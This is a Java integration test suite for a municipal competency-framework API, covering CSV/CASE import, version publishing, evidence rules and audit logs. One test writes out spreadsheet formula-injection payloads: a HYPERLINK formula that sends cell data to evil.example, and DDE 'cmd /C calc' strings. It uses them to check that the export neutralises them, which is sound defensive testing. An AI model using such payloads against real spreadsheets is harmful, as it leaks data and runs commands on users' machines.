package org.munacademy.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import jakarta.json.Json;
import jakarta.json.JsonArray;
import jakarta.json.JsonObject;
import jakarta.json.JsonValue;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;

/**
 * The competency boundary over REST with the seeded national standard: catalogue, gaps and heat-map in scope,
 * all-or-nothing CSV import, CASE export and re-import, and the version life cycle (draft → change →
 * publish → the old version retired but readable, the comparison showing exactly the change). The methods build
 * on each other, so they run in order.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class CompetencyIT extends OnPayaraMicro {

    private JsonObject published() {
        return Api.as(base, "employee").get("api/v1/competency/standards").array().getValuesAs(JsonObject.class)
                .stream().filter(v -> v.getString("standardCode").equals("MUN-COMP")).findFirst().orElseThrow();
    }

    private static List<JsonObject> competencies(JsonObject framework) {
        return framework.getJsonArray("areas").getValuesAs(JsonObject.class).stream()
                .flatMap(a -> a.getJsonArray("competencies").getValuesAs(JsonObject.class).stream()).toList();
    }

    @Test
    @Order(1)
    void the_seeded_standard_is_published_with_areas_competencies_a_four_level_scale_and_indicators() {
        JsonObject v1 = published();
        assertThat(v1.getString("status")).isEqualTo("PUBLISHED");
        assertThat(v1.getInt("number")).isEqualTo(1);
        JsonObject framework = Api.as(base, "juror").get("api/v1/competency/versions/" + v1.getInt("id")).json();
        assertThat(framework.getJsonArray("levels")).hasSize(4);
        assertThat(framework.getJsonArray("areas").size()).isGreaterThanOrEqualTo(8);
        List<JsonObject> competencies = competencies(framework);
        assertThat(competencies.size()).isGreaterThanOrEqualTo(30);
        for (JsonObject c : competencies) {
            List<Integer> levels = c.getJsonArray("indicators").getValuesAs(JsonObject.class).stream()
                    .map(i -> i.getInt("level")).distinct().sorted().toList();
            assertThat(levels).as(c.getString("code")).containsExactly(1, 2, 3, 4);
        }
        List<JsonObject> profile = Api.as(base, "employee").get("api/v1/competency/versions/" + v1.getInt("id")
                + "/profiles").array().getValuesAs(JsonObject.class);
        assertThat(profile.stream().map(p -> p.getString("positionGroupCode")).collect(Collectors.toSet()))
                .contains("HIGHEST", "CHIEF", "LEADING", "SENIOR", "JUNIOR", "HEAD_OF_MUNICIPALITY", "DEPUTY");
    }

    @Test
    @Order(2)
    void the_demo_employee_sees_gaps_against_the_profile_of_their_position_group() {
        JsonObject report = Api.as(base, "employee").get("api/v1/competency/me/gaps").json();
        assertThat(report.getString("positionGroupCode")).isEqualTo("LEADING");
        List<JsonObject> gaps = report.getJsonArray("gaps").getValuesAs(JsonObject.class);
        assertThat(gaps).hasSizeGreaterThanOrEqualTo(10);
        assertThat(gaps.stream().map(g -> g.getString("status")).collect(Collectors.toSet()))
                .contains("BELOW_MIN", "MEETS", "UNKNOWN");
        assertThat(report.getJsonNumber("fit").doubleValue()).isBetween(0.05, 0.95);
    }

    @Test
    @Order(3)
    void the_heat_map_shows_the_people_of_the_officers_scope_only() {
        List<JsonObject> vologda = Api.as(base, "hr").get("api/v1/competency/heatmap").json()
                .getJsonArray("rows").getValuesAs(JsonObject.class);
        assertThat(vologda).isNotEmpty().extracting(r -> r.getString("municipality"))
                .containsOnly("городской округ город Вологда");
        List<JsonObject> tver = Api.as(base, "hr.tver").get("api/v1/competency/heatmap?mode=municipalities").json()
                .getJsonArray("rows").getValuesAs(JsonObject.class);
        assertThat(tver).extracting(r -> r.getString("label")).containsOnly("городской округ город Тверь");
        JsonObject cells = tver.get(0).getJsonObject("cells");
        assertThat(cells).isNotEmpty();
    }

    @Test
    @Order(3)
    void the_heat_map_downloads_as_xlsx_with_the_scope_only() throws Exception {
        Api.Reply r = Api.as(base, "hr").send("GET", "api/v1/competency/heatmap.xlsx", null, "*/*");
        assertThat(r.status()).isEqualTo(200);
        byte[] bytes = java.net.http.HttpClient.newHttpClient().send(java.net.http.HttpRequest.newBuilder(
                        base.resolve("api/v1/competency/heatmap.xlsx"))
                        .header("Authorization", "Basic " + java.util.Base64.getEncoder().encodeToString(
                                "hr:demo12345".getBytes(java.nio.charset.StandardCharsets.UTF_8)))
                        .header("Accept-Language", "ru-RU,ru;q=0.9").build(),
                java.net.http.HttpResponse.BodyHandlers.ofByteArray()).body();
        byte[] english = java.net.http.HttpClient.newHttpClient().send(java.net.http.HttpRequest.newBuilder(
                        base.resolve("api/v1/competency/heatmap.xlsx?mode=municipalities"))
                        .header("Authorization", "Basic " + java.util.Base64.getEncoder().encodeToString(
                                "hr:demo12345".getBytes(java.nio.charset.StandardCharsets.UTF_8))).build(),
                java.net.http.HttpResponse.BodyHandlers.ofByteArray()).body();
        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(english))) {
            var sheet = workbook.getSheetAt(0);
            assertThat(workbook.getSheetName(0)).isEqualTo("Gap heat-map");
            assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).isEqualTo("Municipality");
            assertThat(sheet.getRow(0).getCell(1).getStringCellValue()).isEqualTo("Profile match, %");
            List<String> shares = new java.util.ArrayList<>();
            sheet.getRow(1).forEach(cell -> shares.add(cell.toString()));
            assertThat(shares).anyMatch(text -> text.matches("\\d+% of \\d+"));
        }
        try (var workbook = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(bytes))) {
            var sheet = workbook.getSheetAt(0);
            assertThat(workbook.getSheetName(0)).isEqualTo("Карта разрывов");
            assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).isEqualTo("Сотрудник");
            assertThat(sheet.getLastRowNum()).isGreaterThanOrEqualTo(20);
            for (int i = 1; i <= sheet.getLastRowNum(); i++) {
                assertThat(sheet.getRow(i).getCell(1).getStringCellValue()).isEqualTo("городской округ город Вологда");
            }
        }
    }

    @Test
    @Order(4)
    void a_csv_with_three_faulty_rows_is_refused_naming_the_three_lines_and_nothing_is_stored() {
        String csv = """
                record,code,parent,name,description,kind,level
                SCALE,1,,Базовый,Знает основы,,
                SCALE,2,,Уверенный,Применяет самостоятельно,,
                AREA,TST,,Тестовая область,,,
                COMPETENCY,TST-01,TST,Компетенция,,SUPERHUMAN,
                INDICATOR,,TST-01,Делает что-то,,,1
                COMPETENCY,TST-02,TST,Другая компетенция,,PROFESSIONAL,
                INDICATOR,,TST-02,Знает порядок,,,2
                INDICATOR,,NOPE-99,Индикатор без компетенции,,,1
                INDICATOR,,TST-02,Ещё индикатор,,,1
                INDICATOR,,TST-02,Уровень вне шкалы,,,2
                INDICATOR,,TST-02,Совсем вне шкалы,,,7
                """;
        Api.Reply r = Api.as(base, "methodologist")
                .send("POST", "api/v1/competency/import?format=csv&standard=TEST-BAD&title=Test", csv);
        assertThat(r.status()).as(r.toString()).isEqualTo(400);
        assertThat(r.json().getString("code")).isEqualTo("IMPORT_REJECTED");
        assertThat(r.json().getJsonArray("errors").getValuesAs(JsonObject.class))
                .extracting(e -> e.getString("field"), e -> e.getString("code"), e -> e.getString("location"))
                .as("English without an Accept-Language; the field stays machine-stable").containsExactly(
                        tuple("line 5", "CSV_KIND_UNKNOWN", "line 5"),
                        tuple("line 9", "CSV_COMPETENCY_UNDEFINED", "line 9"),
                        tuple("line 12", "CSV_LEVEL_OUTSIDE_SCALE", "line 12"));
        assertThat(errors(r)).containsExactly(
                "line 5: Column \"kind\": \"SUPERHUMAN\" is not a competency kind (expected GENERAL, MANAGERIAL, "
                        + "PROFESSIONAL)",
                "line 9: Column \"parent\": competency \"NOPE-99\" is not defined in this file",
                "line 12: Column \"level\": 7 is outside the scale 1..2");

        Api.Reply russian = Api.as(base, "methodologist").accepting("ru")
                .send("POST", "api/v1/competency/import?format=csv&standard=TEST-BAD&title=Test", csv);
        assertThat(russian.status()).as(russian.toString()).isEqualTo(400);
        assertThat(russian.json().getString("detail")).startsWith("Импорт отклонён");
        assertThat(russian.json().getJsonArray("errors").getValuesAs(JsonObject.class))
                .extracting(e -> e.getString("field"), e -> e.getString("location") + ": " + e.getString("message"))
                .as("the same problems in Russian, the fields unchanged").containsExactly(
                        tuple("line 5", "строка 5: Столбец «kind»: «SUPERHUMAN» — не вид компетенции (ожидается "
                                + "GENERAL, MANAGERIAL, PROFESSIONAL)"),
                        tuple("line 9", "строка 9: Столбец «parent»: компетенция «NOPE-99» в этом файле не задана"),
                        tuple("line 12", "строка 12: Столбец «level»: уровень 7 вне шкалы 1–2"));
        assertThat(Api.as(base, "methodologist").get("api/v1/competency/standards/TEST-BAD/versions").array())
                .isEmpty();
    }

    @Test
    @Order(5)
    void the_case_export_imported_again_gives_the_same_framework() {
        int v1 = published().getInt("id");
        Api methodologist = Api.as(base, "methodologist");
        Api.Reply export = methodologist.get("api/v1/competency/versions/" + v1 + "/export?format=case");
        assertThat(export.status()).isEqualTo(200);
        JsonObject pkg = export.json();
        assertThat(pkg.getJsonObject("CFDocument").getString("title")).contains("стандарт");
        assertThat(pkg.getJsonArray("CFItems").size()).isGreaterThan(38);

        Api.Reply imported = methodologist.send("POST", "api/v1/competency/import?format=case", export.body());
        assertThat(imported.status()).as(imported.toString()).isEqualTo(201);
        int v2 = imported.json().getInt("id");
        assertThat(imported.json().getString("status")).isEqualTo("DRAFT");
        assertThat(methodologist.get("api/v1/competency/versions/" + v1 + "/compare/" + v2).array())
                .as("no difference between the original and the re-imported framework").isEmpty();
        assertThat(competencies(methodologist.get("api/v1/competency/versions/" + v2).json()))
                .hasSameSizeAs(competencies(methodologist.get("api/v1/competency/versions/" + v1).json()));
    }

    @Test
    @Order(6)
    void a_changed_level_descriptor_published_retires_the_old_version_and_the_comparison_shows_exactly_that() {
        Api methodologist = Api.as(base, "methodologist");
        int v1 = published().getInt("id");
        JsonObject draftRow = methodologist.get("api/v1/competency/standards/MUN-COMP/versions").array()
                .getValuesAs(JsonObject.class).stream().filter(v -> v.getString("status").equals("DRAFT"))
                .findFirst().orElseThrow();
        int v2 = draftRow.getInt("id");
        JsonObject framework = methodologist.get("api/v1/competency/versions/" + v2).json();
        JsonArray levels = framework.getJsonArray("levels");
        String newDescriptor = "Самостоятельно решает типовые задачи и объясняет коллегам порядок действий";
        var changedLevels = Json.createArrayBuilder();
        for (JsonValue l : levels) {
            JsonObject level = l.asJsonObject();
            changedLevels.add(level.getInt("number") == 2
                    ? Json.createObjectBuilder(level).add("descriptor", newDescriptor)
                    : Json.createObjectBuilder(level));
        }
        String body = Json.createObjectBuilder(framework).add("levels", changedLevels).build().toString();
        Api.Reply saved = methodologist.put("api/v1/competency/versions/" + v2 + "?version="
                + draftRow.getJsonNumber("version").longValue() + "&note=descriptor", body);
        assertThat(saved.status()).as(saved.toString()).isEqualTo(200);

        Api.Reply stale = methodologist.put("api/v1/competency/versions/" + v2 + "?version="
                + draftRow.getJsonNumber("version").longValue(), body);
        assertThat(stale.status()).as("a second save with the old version").isEqualTo(409);

        Api.Reply publish = methodologist.send("POST", "api/v1/competency/versions/" + v2 + "/publish?version="
                + saved.json().getJsonNumber("version").longValue(), null);
        assertThat(publish.status()).as(publish.toString()).isEqualTo(200);
        assertThat(publish.json().getString("status")).isEqualTo("PUBLISHED");

        Api employee = Api.as(base, "employee");
        JsonObject old = employee.get("api/v1/competency/standards/MUN-COMP/versions").array()
                .getValuesAs(JsonObject.class).stream().filter(v -> v.getInt("id") == v1).findFirst().orElseThrow();
        assertThat(old.getString("status")).isEqualTo("RETIRED");
        assertThat(employee.get("api/v1/competency/versions/" + v1).status()).as("retired stays readable")
                .isEqualTo(200);
        List<JsonObject> changes = employee.get("api/v1/competency/versions/" + v1 + "/compare/" + v2).array()
                .getValuesAs(JsonObject.class);
        assertThat(changes).hasSize(1);
        assertThat(changes.get(0).getString("kind")).isEqualTo("CHANGED");
        assertThat(changes.get(0).getString("element")).isEqualTo("level");
        assertThat(changes.get(0).getString("code")).isEqualTo("2");
        assertThat(changes.get(0).getString("after")).isEqualTo(newDescriptor);

        Api.Reply immutable = methodologist.put("api/v1/competency/versions/" + v2 + "?version="
                + publish.json().getJsonNumber("version").longValue(), body);
        assertThat(immutable.status()).isEqualTo(409);
        assertThat(immutable.json().getString("code")).isEqualTo("VERSION_IMMUTABLE");
    }

    @Test
    @Order(7)
    void evidence_recorded_by_hr_becomes_the_current_level_and_a_foreign_officer_cannot_add_any() {
        long smirnova = Api.personIdsByCode(base).get("PER-0001");
        String body = "{\"competencyCode\":\"PRJ-02\",\"level\":3,\"source\":\"MANAGER\",\"observedOn\":\""
                + java.time.LocalDate.now() + "\",\"reference\":\"Оценка руководителя\"}";
        assertThat(Api.as(base, "hr.tver").post("api/v1/competency/persons/" + smirnova + "/evidence", body)
                .status()).isEqualTo(403);
        Api.Reply recorded = Api.as(base, "hr").post("api/v1/competency/persons/" + smirnova + "/evidence", body);
        assertThat(recorded.status()).as(recorded.toString()).isEqualTo(201);
        JsonObject level = Api.as(base, "hr").get("api/v1/competency/persons/" + smirnova + "/levels").json()
                .getJsonObject("PRJ-02");
        assertThat(level.getInt("level")).isEqualTo(3);
        assertThat(level.getString("state")).isEqualTo("CURRENT");
    }

    private static String evidence(String competency, int level, String source) {
        return "{\"competencyCode\":\"" + competency + "\",\"level\":" + level + ",\"source\":\"" + source
                + "\",\"observedOn\":\"" + java.time.LocalDate.now() + "\",\"reference\":\"IT\"}";
    }

    private long evidenceCount(long personId) {
        return Api.as(base, "admin").get("api/v1/competency/persons/" + personId + "/evidence").array().size();
    }

    /** JSON-B leaves null fields out. */
    private static boolean hasNoLevel(JsonObject current) {
        return !current.containsKey("level") || current.isNull("level");
    }

    private List<JsonObject> audit(String query) {
        return Api.as(base, "admin").get("api/v1/audit?limit=100&" + query).json().getJsonArray("items")
                .getValuesAs(JsonObject.class);
    }

    @Test
    @Order(8)
    void sources_only_the_system_writes_are_refused_through_the_api_naming_the_field_source() {
        long smirnova = Api.personIdsByCode(base).get("PER-0001");
        long before = evidenceCount(smirnova);
        for (String source : List.of("ASSESSMENT", "COURSE", "CONTEST_JURY")) {
            Api.Reply r = Api.as(base, "hr").post("api/v1/competency/persons/" + smirnova + "/evidence",
                    evidence("STR-02", 4, source));
            assertThat(r.status()).as(source + ": " + r).isEqualTo(400);
            assertThat(r.json().getJsonArray("errors").getJsonObject(0).getString("field")).isEqualTo("source");
            Api.Reply own = Api.as(base, "employee").post("api/v1/competency/persons/" + smirnova + "/evidence",
                    evidence("STR-02", 4, source));
            assertThat(own.status()).as("the employee about themselves, " + source).isEqualTo(403);
        }
        assertThat(Api.as(base, "hr").post("api/v1/competency/persons/" + smirnova + "/evidence",
                evidence("STR-02", 4, "SELF_ASSESSMENT")).status()).as("a self-assessment by somebody else")
                .isEqualTo(400);
        assertThat(evidenceCount(smirnova)).as("nothing was stored").isEqualTo(before);
    }

    @Test
    @Order(9)
    void nobody_records_evidence_about_themselves() {
        Map<String, Long> ids = Api.personIdsByCode(base);
        for (var who : Map.of("hr", "PER-0002", "admin", "PER-0008").entrySet()) {
            long own = ids.get(who.getValue());
            long before = evidenceCount(own);
            Api.Reply r = Api.as(base, who.getKey()).post("api/v1/competency/persons/" + own + "/evidence",
                    evidence("LDR-01", 4, "MANAGER"));
            assertThat(r.status()).as(who.getKey() + ": " + r).isEqualTo(403);
            assertThat(r.json().getString("code")).isEqualTo("OWN_EVIDENCE");
            assertThat(r.json().getString("detail")).as("English without an Accept-Language")
                    .contains("your own competencies");
            Api.Reply russian = Api.as(base, who.getKey()).accepting("ru-RU,ru;q=0.9,en;q=0.8")
                    .post("api/v1/competency/persons/" + own + "/evidence", evidence("LDR-01", 4, "MANAGER"));
            assertThat(russian.json().getString("code")).isEqualTo("OWN_EVIDENCE");
            assertThat(russian.json().getString("detail")).contains("собственных компетенций");
            assertThat(evidenceCount(own)).isEqualTo(before);
            assertThat(audit("action=EVIDENCE_RECORDED&outcome=DENIED&actor=" + who.getKey() + "&targetId=" + own))
                    .as("the refused self-rating is audited").isNotEmpty();
        }
    }

    @Test
    @Order(3) // while the published version still has the seeded profiles (the CASE re-import of order 6 has none)
    void a_self_assessment_is_shown_but_never_meets_a_requirement_in_the_gaps_or_the_heat_map() {
        long smirnova = Api.personIdsByCode(base).get("PER-0001");
        Api employee = Api.as(base, "employee");
        JsonObject before = employee.get("api/v1/competency/me/gaps").json();
        Api.Reply r = employee.post("api/v1/competency/persons/" + smirnova + "/evidence",
                evidence("STR-02", 4, "SELF_ASSESSMENT"));
        assertThat(r.status()).as(r.toString()).isEqualTo(201);

        JsonObject after = employee.get("api/v1/competency/me/gaps").json();
        JsonObject str02 = after.getJsonArray("gaps").getValuesAs(JsonObject.class).stream()
                .filter(g -> g.getString("competencyCode").equals("STR-02")).findFirst().orElseThrow();
        assertThat(str02.getString("status")).isEqualTo("UNKNOWN");
        assertThat(str02.getInt("selfAssessed")).isEqualTo(4);
        assertThat(hasNoLevel(str02.getJsonObject("current"))).isTrue();
        assertThat(after.getJsonNumber("fit").doubleValue()).isEqualTo(before.getJsonNumber("fit").doubleValue());
        assertThat(hasNoLevel(Api.as(base, "hr").get("api/v1/competency/persons/" + smirnova + "/levels").json()
                .getJsonObject("STR-02"))).as("no current level from a self-assessment").isTrue();

        JsonObject row = Api.as(base, "hr").get("api/v1/competency/heatmap?q=" + java.net.URLEncoder.encode(
                        "Смирнова", java.nio.charset.StandardCharsets.UTF_8)).json().getJsonArray("rows")
                .getValuesAs(JsonObject.class).stream().filter(x -> x.getJsonNumber("id").longValue() == smirnova)
                .findFirst().orElseThrow();
        JsonObject cell = row.getJsonObject("cells").getJsonObject("STR-02");
        assertThat(cell.getString("status")).isEqualTo("UNKNOWN");
        assertThat(cell.getInt("selfAssessed")).isEqualTo(4);
    }

    @Test
    @Order(11)
    void evidence_writes_and_heat_map_reads_and_exports_are_audited() {
        long smirnova = Api.personIdsByCode(base).get("PER-0001");
        Api.Reply r = Api.as(base, "hr").post("api/v1/competency/persons/" + smirnova + "/evidence",
                evidence("LDR-01", 3, "MANAGER"));
        assertThat(r.status()).as(r.toString()).isEqualTo(201);
        assertThat(audit("action=EVIDENCE_RECORDED&outcome=SUCCESS&actor=hr&targetId=" + smirnova))
                .extracting(e -> e.getString("detail"))
                .anyMatch(d -> d.contains("source=MANAGER") && d.contains("competency=LDR-01"));
        assertThat(audit("action=EVIDENCE_RECORDED&outcome=SUCCESS&actor=employee&targetId=" + smirnova))
                .extracting(e -> e.getString("detail")).anyMatch(d -> d.contains("source=SELF_ASSESSMENT"));

        assertThat(Api.as(base, "hr.tver").get("api/v1/competency/heatmap?mode=municipalities").status())
                .isEqualTo(200);
        assertThat(audit("action=HEATMAP_READ&actor=hr.tver")).extracting(e -> e.getString("detail"))
                .anyMatch(d -> d.contains("mode=MUNICIPALITIES") && d.contains("rows=1"));
        assertThat(Api.as(base, "hr").send("GET", "api/v1/competency/heatmap.xlsx?q=x", null, "*/*").status())
                .isEqualTo(200);
        assertThat(audit("action=DATA_EXPORTED&actor=hr&targetType=heatmap")).extracting(e -> e.getString("detail"))
                .anyMatch(d -> d.startsWith("xlsx") && d.contains("q=x"));
    }

    @Test
    @Order(12)
    void a_csv_saved_by_excel_in_windows_1251_or_with_a_utf8_mark_imports_with_every_cyrillic_letter_intact() {
        String csv = """
                record,code,parent,name,description,kind,level
                SCALE,1,,Базовый,Знает основы,,
                SCALE,2,,Уверенный,Применяет самостоятельно,,
                AREA,ENC,,Область «Кодировки»,,,
                COMPETENCY,ENC-01,ENC,Работа с обращениями граждан: ёмко и в срок,,PROFESSIONAL,
                INDICATOR,,ENC-01,Отвечает на обращение в установленный срок,,,1
                """;
        Api methodologist = Api.as(base, "methodologist");
        Map<String, byte[]> files = Map.of(
                "TEST-CP1251", csv.getBytes(java.nio.charset.Charset.forName("windows-1251")),
                "TEST-BOM", ("\uFEFF" + csv).getBytes(java.nio.charset.StandardCharsets.UTF_8));
        for (var file : files.entrySet()) {
            Api.Reply r = methodologist.sendBytes("POST", "api/v1/competency/import?format=csv&standard="
                    + file.getKey() + "&title=Enc", file.getValue(), "text/csv");
            assertThat(r.status()).as(file.getKey() + ": " + r).isEqualTo(201);
            Api.Reply export = methodologist.getAny("api/v1/competency/versions/" + r.json().getInt("id")
                    + "/export?format=csv");
            assertThat(export.body()).as(file.getKey()).contains("Работа с обращениями граждан: ёмко и в срок")
                    .contains("Область «Кодировки»").doesNotContain("\uFFFD");
        }
        // a declared charset is obeyed: Windows-1251 bytes declared as UTF-8 are refused, not garbled
        Api.Reply wrong = methodologist.sendBytes("POST", "api/v1/competency/import?format=csv&standard=TEST-WRONG"
                + "&title=Enc", files.get("TEST-CP1251"), "text/csv; charset=UTF-8");
        assertThat(wrong.status()).as(wrong.toString()).isEqualTo(400);
        assertThat(wrong.json().getString("code")).isNotBlank();
        assertThat(wrong.body()).contains("UTF-8");
    }

    @Test
    @Order(13)
    void a_refused_import_lists_every_one_of_its_errors_not_the_first_five() {
        StringBuilder csv = new StringBuilder("""
                record,code,parent,name,description,kind,level
                SCALE,1,,Базовый,Знает основы,,
                AREA,MANY,,Область,,,
                COMPETENCY,MANY-01,MANY,Компетенция,,PROFESSIONAL,
                """);
        for (int i = 0; i < 36; i++) {
            csv.append("INDICATOR,,NOPE-").append(i).append(",Индикатор без компетенции,,,1\n");
        }
        Api.Reply r = Api.as(base, "methodologist")
                .send("POST", "api/v1/competency/import?format=csv&standard=TEST-MANY&title=Many", csv.toString());
        assertThat(r.status()).as(r.toString()).isEqualTo(400);
        assertThat(r.json().getString("code")).isEqualTo("IMPORT_REJECTED");
        List<JsonObject> errors = r.json().getJsonArray("errors").getValuesAs(JsonObject.class);
        assertThat(errors).hasSize(36);
        assertThat(errors).extracting(e -> e.getString("field")).contains("line 5", "line 40");
    }

    @Test
    @Order(14)
    void over_long_values_in_a_csv_are_a_400_naming_column_and_line_and_nothing_is_stored() {
        String csv = "record,code,parent,name,description,kind,level\n"
                + "SCALE,1,,Базовый,Знает основы,,\n"
                + "AREA,LONG,,Область,,,\n"
                + "COMPETENCY," + "К".repeat(56) + ",LONG,Компетенция,,PROFESSIONAL,\n"
                + "COMPETENCY,LONG-02,LONG," + "с".repeat(600) + "," + "о".repeat(2_500) + ",PROFESSIONAL,\n";
        Api methodologist = Api.as(base, "methodologist");

        Api.Reply r = methodologist.send("POST", "api/v1/competency/import?format=csv&standard=TEST-LONG&title=Long",
                csv);

        assertThat(r.status()).as(r.toString()).isEqualTo(400);
        assertThat(r.json().getString("code")).isEqualTo("IMPORT_REJECTED");
        assertThat(errors(r)).containsExactly(
                "line 4: Column \"code\" is 56 characters long; at most 40 are allowed",
                "line 5: Column \"name\" is 600 characters long; at most 500 are allowed",
                "line 5: Column \"description\" is 2,500 characters long; at most 2,000 are allowed");
        assertThat(methodologist.get("api/v1/competency/standards/TEST-LONG/versions").array()).isEmpty();
    }

    @Test
    @Order(15)
    void over_long_values_in_a_case_package_are_a_400_naming_item_and_field_and_nothing_is_stored() {
        Api methodologist = Api.as(base, "methodologist");
        JsonObject pkg = caseExport("TEST-CASE-LONG");
        List<JsonObject> items = pkg.getJsonArray("CFItems").getValuesAs(JsonObject.class);
        String competencyId = items.get(1).getString("identifier");
        String longId = "urn:x-municipal-academy:item:" + "7".repeat(21); // 50 characters, not a UUID
        var edited = Json.createArrayBuilder(pkg.getJsonArray("CFItems"))
                .set(1, Json.createObjectBuilder(items.get(1)).add("humanCodingScheme", "H".repeat(60))
                        .add("fullStatement", "с".repeat(600)).add("notes", "о".repeat(2_500)))
                .set(0, Json.createObjectBuilder(items.get(0)).add("identifier", longId));
        String json = Json.createObjectBuilder(pkg).add("CFItems", edited).build().toString();

        Api.Reply r = methodologist.send("POST", "api/v1/competency/import?format=case", json);

        assertThat(r.status()).as(r.toString()).isEqualTo(400);
        assertThat(r.json().getString("code")).isEqualTo("IMPORT_REJECTED");
        assertThat(errors(r)).contains(
                "CFItem " + competencyId + ": humanCodingScheme is 60 characters long; at most 40 are allowed",
                "CFItem " + competencyId + ": fullStatement is 600 characters long; at most 500 are allowed",
                "CFItem " + competencyId + ": notes is 2,500 characters long; at most 2,000 are allowed",
                "CFItem " + longId.substring(0, 40) + "…: Identifier \"" + longId.substring(0, 40)
                        + "…\" is 50 characters long; at most 36 are allowed (a CASE identifier is a UUID)");
        assertThat(methodologist.get("api/v1/competency/standards/TEST-CASE-LONG/versions").array()).isEmpty();
    }

    @Test
    @Order(16)
    void a_case_document_nested_ten_thousand_deep_is_a_400_not_a_server_error() {
        String deep = "{\"CFDocument\": " + "[".repeat(10_000) + "]".repeat(10_000) + "}";

        Api.Reply r = Api.as(base, "methodologist").send("POST", "api/v1/competency/import?format=case", deep);

        assertThat(r.status()).as(r.toString()).isEqualTo(400);
        assertThat(errors(r)).singleElement().asString()
                .isEqualTo("JSON: The JSON document nests deeper than 32 levels");
    }

    @Test
    @Order(17)
    void a_case_package_saved_with_a_utf8_byte_order_mark_is_imported() {
        Api methodologist = Api.as(base, "methodologist");
        String json = caseExport("TEST-CASE-BOM").toString();
        byte[] withMark = ("\uFEFF" + json).getBytes(java.nio.charset.StandardCharsets.UTF_8);

        Api.Reply r = methodologist.sendBytes("POST", "api/v1/competency/import?format=case", withMark,
                "application/json");

        assertThat(r.status()).as(r.toString()).isEqualTo(201);
        assertThat(r.json().getString("standardCode")).isEqualTo("TEST-CASE-BOM");
        assertThat(competencies(methodologist.get("api/v1/competency/versions/" + r.json().getInt("id")).json()))
                .extracting(c -> c.getString("name")).contains("Работа с обращениями граждан: ёмко и в срок");
    }

    @Test
    @Order(18)
    void a_78_megabyte_csv_streamed_without_a_length_is_refused_with_413_at_the_import_limit() throws Exception {
        long size = 78L * 1024 * 1024;
        byte[] row = "INDICATOR,,A1,Отвечает на обращения граждан в установленный срок,,,1\n"
                .getBytes(java.nio.charset.StandardCharsets.UTF_8);
        java.io.InputStream generated = new java.io.InputStream() {
            private long position;

            @Override
            public int read() {
                return position < size ? row[(int) (position++ % row.length)] & 0xFF : -1;
            }

            @Override
            public int read(byte[] b, int off, int len) {
                if (position >= size) {
                    return -1;
                }
                int n = (int) Math.min(len, size - position);
                for (int i = 0; i < n; i++) {
                    b[off + i] = (byte) read();
                }
                return n;
            }
        };
        var request = java.net.http.HttpRequest.newBuilder(base.resolve(
                        "api/v1/competency/import?format=csv&standard=TEST-HUGE&title=Huge"))
                .header("Authorization", "Basic " + java.util.Base64.getEncoder().encodeToString(
                        "methodologist:demo12345".getBytes(java.nio.charset.StandardCharsets.UTF_8)))
                .header("Content-Type", "text/csv").header("Accept", "application/json")
                .POST(java.net.http.HttpRequest.BodyPublishers.ofInputStream(() -> generated)) // chunked: no length
                .build();
        long started = System.nanoTime();
        var response = java.net.http.HttpClient.newHttpClient().send(request,
                java.net.http.HttpResponse.BodyHandlers.ofString());
        System.out.printf("78 MB CSV: %d after %d ms%n", response.statusCode(),
                (System.nanoTime() - started) / 1_000_000);

        assertThat(response.statusCode()).as(response.body()).isEqualTo(413);
        assertThat(response.body()).contains("PAYLOAD_TOO_LARGE");
        assertThat(Api.as(base, "methodologist").get("api/v1/competency/standards/TEST-HUGE/versions").array())
                .isEmpty();
    }

    @Test
    @Order(19)
    void names_that_look_like_formulas_are_exported_as_text_and_imported_back_unchanged() {
        String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Подробнее\")";
        String dde = "=cmd|' /C calc'!A0";
        String sum = "@SUM(1+1)*cmd|' /C calc'!A0";
        String csv = "record;code;parent;name;description;kind;level\n"
                + "SCALE;1;;Базовый;Знает основы;;\n"
                + "AREA;FORM;;\"" + hyperlink.replace("\"", "\"\"") + "\";;;\n"
                + "COMPETENCY;FORM-01;FORM;" + dde + ";" + sum + ";PROFESSIONAL;\n";
        Api methodologist = Api.as(base, "methodologist");
        Api.Reply imported = methodologist.sendBytes("POST", "api/v1/competency/import?standard=TEST-FORMULA"
                + "&title=Formula", csv.getBytes(java.nio.charset.Charset.forName("windows-1251")), "text/csv");
        assertThat(imported.status()).as(imported.toString()).isEqualTo(201);
        int id = imported.json().getInt("id");

        String exported = methodologist.getAny("api/v1/competency/versions/" + id + "/export?format=csv").body();

        assertThat(exported).contains("'" + dde, "'" + sum).contains("\"'=HYPERLINK(");
        assertThat(exported.lines()).noneMatch(line -> line.contains(",=") || line.contains(",@")
                || line.contains(",\"="));
        Api.Reply again = methodologist.sendBytes("POST", "api/v1/competency/import?standard=TEST-FORMULA-2"
                + "&title=Formula", exported.getBytes(java.nio.charset.StandardCharsets.UTF_8), "text/csv");
        assertThat(again.status()).as(again.toString()).isEqualTo(201);
        assertThat(methodologist.get("api/v1/competency/versions/" + id + "/compare/" + again.json().getInt("id"))
                .array()).as("the re-imported export is the same framework").isEmpty();
        JsonObject area = methodologist.get("api/v1/competency/versions/" + again.json().getInt("id")).json()
                .getJsonArray("areas").getJsonObject(0);
        assertThat(area.getString("name")).isEqualTo(hyperlink);
    }

    @Test
    @Order(20)
    void the_format_is_judged_by_the_content_an_xlsx_workbook_imports_and_a_mismatching_format_is_named()
            throws Exception {
        byte[] xlsx;
        try (var book = new org.apache.poi.xssf.usermodel.XSSFWorkbook();
                var out = new java.io.ByteArrayOutputStream()) {
            var sheet = book.createSheet("Стандарт");
            String[][] rows = {{"record", "code", "parent", "name", "description", "kind", "level"},
                    {"SCALE", "1", "", "Базовый", "Знает основы", "", ""},
                    {"AREA", "XL", "", "Область из Excel", "", "", ""},
                    {"COMPETENCY", "XL-01", "XL", "Ведение реестров", "", "PROFESSIONAL", ""},
                    {"INDICATOR", "", "XL-01", "Вносит записи без ошибок", "", "", "1"}};
            for (int r = 0; r < rows.length; r++) {
                var row = sheet.createRow(r);
